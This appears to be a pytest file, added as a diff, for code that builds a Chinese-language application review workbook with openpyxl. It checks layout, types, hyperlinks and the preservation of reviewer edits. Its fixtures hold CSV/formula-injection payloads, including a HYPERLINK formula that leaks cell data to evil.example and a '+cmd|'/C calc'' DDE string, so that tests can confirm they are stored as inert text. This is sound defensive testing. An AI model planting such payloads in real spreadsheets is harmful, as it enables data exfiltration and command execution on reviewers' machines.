@@ -1,0 +1,264 @@
+"""The review workbook, reopened with openpyxl: sheets, headers, values, types, safety, reviewer columns."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from datetime import datetime
+from pathlib import Path
+
+import openpyxl
+import pytest
+from openpyxl.worksheet.worksheet import Worksheet
+
+from intake.models import Flag, MessageRecord
+from reports.workbook import REVIEW_CHOICES, backup_path, write_workbook
+from tests.test_reports_factory import TZ, make_attachment, make_form, make_message, make_run
+
+
+def _header(ws: Worksheet) -> dict[str, int]:
+    return {str(c.value): c.column for c in ws[1] if c.value is not None}
+
+
+def _column(ws: Worksheet, header: str) -> list[object]:
+    col = _header(ws)[header]
+    return [ws.cell(row=r, column=col).value for r in range(2, ws.max_row + 1)]
+
+
+def _row_of(ws: Worksheet, form_id: str) -> int:
+    col = _header(ws)["表单编号"]
+    for r in range(2, ws.max_row + 1):
+        if ws.cell(row=r, column=col).value == form_id:
+            return r
+    raise AssertionError(f"{form_id} not in {ws.title}")
+
+
+def _messages(tmp_path: Path) -> list[MessageRecord]:
+    (tmp_path / "data" / "att" / "ab").mkdir(parents=True)
+    (tmp_path / "data" / "att" / "ab" / "abcd.docx").write_bytes(b"docx")
+    ok = make_message(0, attachments=(make_attachment("申报表0.docx", archive_path="att/ab/abcd.docx"),
+                                      make_attachment("申报表0.pdf")))
+    flagged_form = make_form("INBOX/1/2", 1, flags=(Flag("missing_field", "applicant.mobile"),),
+                             project_name='=HYPERLINK("http://evil.example/?x="&A1,"点击")')
+    late = make_message(1, forms=(flagged_form,), flags=(Flag("late", "2024-12-18 10:00"),))
+    hostile = make_message(2, forms=(make_form("INBOX/1/3", 2, project_name="+cmd\x0b|'/C calc'\x00\ud800",
+                                               purpose="长" * 40_000),))
+    failed = make_message(3, forms=(), attachments=(), flags=(Flag("processing_failed", "boom"),),
+                          outcome="failed", subject="@SUM(1+1)")
+    return [ok, late, hostile, failed]
+
+
+@pytest.fixture()
+def book(tmp_path: Path) -> tuple[Path, openpyxl.Workbook, list[MessageRecord]]:
+    msgs = _messages(tmp_path)
+    path = tmp_path / "out" / "申报汇总.xlsx"
+    write_workbook(path, msgs, make_run(new=frozenset({"INBOX/1/1"})), tz=TZ, data_dir=tmp_path / "data")
+    return path, openpyxl.load_workbook(path), msgs
+
+
+def test_sheets_and_project_headers(book: tuple[Path, openpyxl.Workbook, list[MessageRecord]]) -> None:
+    _, wb, _ = book
+    assert wb.sheetnames == ["汇总", "申报项目", "问题清单", "邮件日志", "附件"]
+    headers = list(_header(wb["申报项目"]))
+    assert headers[0] == "项目名称"
+    for label in ("问题", "状态", "训练天数", "收到时间", "发件人", "源文件", "表单编号", "推荐级别", "审核意见",
+                  "审核人", "办班时间", "申报单位办公电话", "承办单位地址", "是否继续教育基地"):
+        assert label in headers
+    # the form's order: 办班时间 before 办班地点 before 研修目的和作用 before 承办单位名称
+    assert headers.index("办班时间") < headers.index("办班地点") < headers.index("研修目的和作用") \
+        < headers.index("承办单位名称")
+
+
+def test_one_row_per_form_with_values_and_types(book: tuple[Path, openpyxl.Workbook, list[MessageRecord]]) -> None:
+    _, wb, msgs = book
+    ws = wb["申报项目"]
+    assert ws.max_row == 1 + 3  # three forms; the failed mail has none
+    r = _row_of(ws, "F0000")
+    h = _header(ws)
+    assert ws.cell(row=r, column=h["项目名称"]).value == "数字经济与产业升级高级研修班0"
+    assert ws.cell(row=r, column=h["训练天数"]).value == 5
+    received = ws.cell(row=r, column=h["收到时间"]).value
+    assert isinstance(received, datetime) and received.tzinfo is None
+    assert received == datetime(2024, 12, 12, 9, 30)  # Beijing wall clock of 01:30 UTC
+    assert isinstance(ws.cell(row=r, column=h["办班开始日期"]).value, datetime)
+    phone = ws.cell(row=r, column=h["申报单位办公电话"])
+    assert phone.value == "0717-6221234" and phone.data_type == "s"
+    assert ws.cell(row=r, column=h["状态"]).value == "材料齐全"
+    assert ws.cell(row=r, column=h["申报项目类别"]).value == "自筹经费项目"
+
+
+def test_flags_status_and_highlights(book: tuple[Path, openpyxl.Workbook, list[MessageRecord]]) -> None:
+    _, wb, _ = book
+    ws = wb["申报项目"]
+    h = _header(ws)
+    r = _row_of(ws, "F0001")
+    problems = ws.cell(row=r, column=h["问题"]).value
+    assert "逾期提交" in problems and "未填写：申报单位手机" in problems
+    assert ws.cell(row=r, column=h["状态"]).value == "逾期"
+    flagged = ws.cell(row=r, column=h["申报单位手机"]).fill.fgColor.rgb
+    plain = ws.cell(row=_row_of(ws, "F0000"), column=h["申报单位手机"]).fill.fgColor.rgb
+    assert flagged != plain
+    late_fill = ws.cell(row=r, column=h["培训对象"]).fill.fgColor.rgb
+    assert late_fill != ws.cell(row=_row_of(ws, "F0000"), column=h["培训对象"]).fill.fgColor.rgb
+
+
+def test_formula_like_values_stay_text(book: tuple[Path, openpyxl.Workbook, list[MessageRecord]]) -> None:
+    path, wb, _ = book
+    ws = wb["申报项目"]
+    cell = ws.cell(row=_row_of(ws, "F0001"), column=1)
+    assert cell.value == '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    assert cell.data_type == "s"
+    log = wb["邮件日志"]
+    assert "@SUM(1+1)" in _column(log, "主题")
+    import zipfile
+    with zipfile.ZipFile(path) as z:
+        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+
+
+def test_illegal_characters_removed_and_long_text_capped(
+        book: tuple[Path, openpyxl.Workbook, list[MessageRecord]]) -> None:
+    _, wb, _ = book
+    ws = wb["申报项目"]
+    r = _row_of(ws, "F0002")
+    h = _header(ws)
+    assert ws.cell(row=r, column=1).value == "+cmd\n|'/C calc'"
+    assert len(ws.cell(row=r, column=h["研修目的和作用"]).value) <= 32_000
+
+
+def test_every_mail_in_log_including_failed(book: tuple[Path, openpyxl.Workbook, list[MessageRecord]]) -> None:
+    _, wb, msgs = book
+    log = wb["邮件日志"]
+    assert _column(log, "邮件编号") == [m.key for m in msgs]
+    assert _column(log, "处理结果")[3] == "处理失败"
+    assert isinstance(_column(log, "收到时间（北京时间）")[0], datetime)
+    flags = wb["问题清单"]
+    assert "处理失败" in _column(flags, "问题") and "缺填项" in _column(flags, "问题")
+
+
+def test_attachment_hyperlink_is_relative_to_archived_copy(
+        book: tuple[Path, openpyxl.Workbook, list[MessageRecord]]) -> None:
+    path, wb, _ = book
+    ws = wb["附件"]
+    first = ws.cell(row=2, column=1)
+    assert first.value == "申报表0.docx"
+    target = first.hyperlink.target
+    assert not target.startswith("/") and (path.parent / target).resolve().read_bytes() == b"docx"
+    assert ws.cell(row=3, column=1).hyperlink is None  # no archived copy on disk: no link
+    src = wb["申报项目"].cell(row=2, column=_header(wb["申报项目"])["源文件"])
+    assert src.hyperlink is not None and src.hyperlink.target == target
+
+
+def test_dropdown_on_recommendation_column(book: tuple[Path, openpyxl.Workbook, list[MessageRecord]]) -> None:
+    _, wb, _ = book
+    ws = wb["申报项目"]
+    letter = openpyxl.utils.get_column_letter(_header(ws)["推荐级别"])
+    dvs = ws.data_validations.dataValidation
+    assert len(dvs) == 1 and dvs[0].type == "list"
+    assert all(choice in dvs[0].formula1 for choice in REVIEW_CHOICES)
+    assert f"{letter}2" in str(dvs[0].sqref)
+
+
+def test_layout_frozen_filter_print(book: tuple[Path, openpyxl.Workbook, list[MessageRecord]]) -> None:
+    _, wb, _ = book
+    ws = wb["申报项目"]
+    assert ws.freeze_panes == "B2"
+    assert ws.auto_filter.ref.startswith("A1:")
+    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
+    assert ws.print_title_rows == "$1:$1"
+    # wide characters count double: the 项目名称 column is wider than its ASCII-length would give
+    assert ws.column_dimensions["A"].width >= 2 * len("数字经济与产业升级高级研修班0") - 1
+
+
+def test_summary_counts(book: tuple[Path, openpyxl.Workbook, list[MessageRecord]]) -> None:
+    _, wb, _ = book
+    ws = wb["汇总"]
+    pairs = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2).value for r in range(1, ws.max_row + 1)}
+    assert pairs["邮件总数"] == 4 and pairs["申报表总数"] == 3
+    assert pairs["逾期提交"] == 1 and pairs["处理失败邮件"] == 1 and pairs["本次新增邮件"] == 1
+    regions = {ws.cell(row=r, column=7).value: ws.cell(row=r, column=8).value for r in range(1, ws.max_row + 1)}
+    assert regions.get("宜昌市") == 3
+
+
+def _review(path: Path, form_id: str, level: str, opinion: str, who: str) -> None:
+    """Simulate a reviewer editing the workbook (openpyxl, as Excel would save it)."""
+    wb = openpyxl.load_workbook(path)
+    ws = wb["申报项目"]
+    h = _header(ws)
+    r = _row_of(ws, form_id)
+    ws.cell(row=r, column=h["推荐级别"]).value = level
+    ws.cell(row=r, column=h["审核意见"]).value = opinion
+    ws.cell(row=r, column=h["审核人"]).value = who
+    wb.save(path)
+
+
+def test_reviewer_columns_survive_two_regenerations(tmp_path: Path) -> None:
+    msgs = _messages(tmp_path)
+    path = tmp_path / "申报汇总.xlsx"
+    run = make_run()
+    write_workbook(path, msgs, run, tz=TZ, data_dir=tmp_path / "data")
+    _review(path, "F0001", "推荐省级", "材料基本齐全，补手机号", "张三")
+    _review(path, "F0002", "不推荐", "=不是公式", "李四")
+    reordered = [msgs[2], msgs[0], msgs[3], msgs[1]]  # row order changes must not matter
+    write_workbook(path, reordered, run, tz=TZ, data_dir=tmp_path / "data")
+    write_workbook(path, msgs, run, tz=TZ, data_dir=tmp_path / "data")
+    ws = openpyxl.load_workbook(path)["申报项目"]
+    h = _header(ws)
+    r = _row_of(ws, "F0001")
+    assert [ws.cell(row=r, column=h[x]).value for x in ("推荐级别", "审核意见", "审核人")] == \
+        ["推荐省级", "材料基本齐全，补手机号", "张三"]
+    r2 = _row_of(ws, "F0002")
+    assert ws.cell(row=r2, column=h["审核意见"]).value == "=不是公式"
+    assert ws.cell(row=r2, column=h["审核意见"]).data_type == "s"
+    assert ws.cell(row=_row_of(ws, "F0000"), column=h["推荐级别"]).value is None
+    assert backup_path(path).exists()
+
+
+def test_removed_form_keeps_review_on_removed_sheet_and_comes_back(tmp_path: Path) -> None:
+    msgs = _messages(tmp_path)
+    path = tmp_path / "申报汇总.xlsx"
+    run = make_run()
+    write_workbook(path, msgs, run, tz=TZ, data_dir=tmp_path / "data")
+    _review(path, "F0001", "推荐国家级", "优秀", "王五")
+    without = [m for m in msgs if m.key != "INBOX/1/2"]
+    write_workbook(path, without, run, tz=TZ, data_dir=tmp_path / "data")
+    write_workbook(path, without, run, tz=TZ, data_dir=tmp_path / "data")  # still there after another run
+    wb = openpyxl.load_workbook(path)
+    assert "已移除" in wb.sheetnames
+    removed = wb["已移除"]
+    r = _row_of(removed, "F0001")
+    h = _header(removed)
+    assert removed.cell(row=r, column=h["审核意见"]).value == "优秀"
+    assert removed.cell(row=r, column=h["项目名称"]).value.startswith("=HYPERLINK")
+    write_workbook(path, msgs, run, tz=TZ, data_dir=tmp_path / "data")  # the form is back
+    wb = openpyxl.load_workbook(path)
+    assert "已移除" not in wb.sheetnames
+    ws = wb["申报项目"]
+    assert ws.cell(row=_row_of(ws, "F0001"), column=_header(ws)["推荐级别"]).value == "推荐国家级"
+
+
+def test_unreadable_old_workbook_is_set_aside_not_lost(tmp_path: Path) -> None:
+    path = tmp_path / "申报汇总.xlsx"
+    path.write_bytes(b"not a zip")
+    write_workbook(path, _messages(tmp_path), make_run(), tz=TZ, data_dir=tmp_path / "data")
+    kept = list(tmp_path.glob("申报汇总.unreadable-*.xlsx"))
+    assert len(kept) == 1 and kept[0].read_bytes() == b"not a zip"
+    assert openpyxl.load_workbook(path).sheetnames[0] == "汇总"
+
+
+def test_empty_store_and_no_leftover_temp_files(tmp_path: Path) -> None:
+    path = tmp_path / "申报汇总.xlsx"
+    write_workbook(path, [], make_run(), tz=TZ, data_dir=tmp_path)
+    write_workbook(path, [], make_run(), tz=TZ, data_dir=tmp_path)
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["申报汇总.bak.xlsx", "申报汇总.xlsx"]
+    assert openpyxl.load_workbook(path)["申报项目"].max_row == 1
+
+
+def test_superseded_form_shows_status(tmp_path: Path) -> None:
+    old = make_message(0, forms=(make_form("INBOX/1/1", 0, superseded_by="F0001",
+                                           flags=(Flag("superseded", "见 F0001"),)),))
+    new = make_message(1)
+    path = tmp_path / "w.xlsx"
+    write_workbook(path, [old, replace(new)], make_run(), tz=TZ, data_dir=tmp_path)
+    ws = openpyxl.load_workbook(path)["申报项目"]
+    h = _header(ws)
+    assert ws.cell(row=_row_of(ws, "F0000"), column=h["状态"]).value == "已被替代"
+    assert ws.cell(row=_row_of(ws, "F0000"), column=h["替代为"]).value == "F0001"
